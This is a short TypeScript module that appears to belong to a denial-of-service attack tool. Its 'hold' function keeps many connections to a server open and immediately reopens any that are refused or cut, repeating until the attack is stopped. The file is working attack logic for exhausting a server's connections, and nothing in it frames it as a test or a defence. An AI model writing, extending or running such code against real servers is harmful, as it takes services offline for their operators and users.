import { setTimeout as pause } from 'node:timers/promises';
import type { Means } from './attack.ts';

/** A connection that is held as long as the server lets us. */
export interface Held {
  readonly closed: Promise<unknown>;
  readonly end: () => void;
}

/** Opened at the same time: more would only wait for each other. */
const opening = 16;
/** Before a place that was refused is asked for again. */
const againMs = 250;

/** Keeps so many connections open, and opens another for each that is refused or cut, until the attack is ended. */
export async function hold(
  { signal, count }: Means,
  connections: number,
  open: (number: number) => Promise<Held | null>,
): Promise<void> {
  let number = 0;
  let places = opening;
  const held = new Set<Held>();
  const turn = async (): Promise<Held | null> => {
    while (places === 0 && !signal.aborted) await pause(againMs / 10);
    if (signal.aborted) return null;
    places -= 1;
    number += 1;
    try {
      return await open(number);
    } catch {
      count('broken off');
      return null;
    } finally {
      places += 1;
    }
  };
  const keep = async (): Promise<void> => {
    while (!signal.aborted) {
      const one = await turn();
      if (one === null) {
        await pause(againMs, undefined, { signal }).catch(() => {});
      } else {
        held.add(one);
        // It may have come just after the end.
        if (signal.aborted) one.end();
        await one.closed;
        held.delete(one);
        count('cut');
      }
    }
  };
  signal.addEventListener('abort', () => {
    for (const one of held) one.end();
  });
  await Promise.all(Array.from({ length: connections }, keep));
}
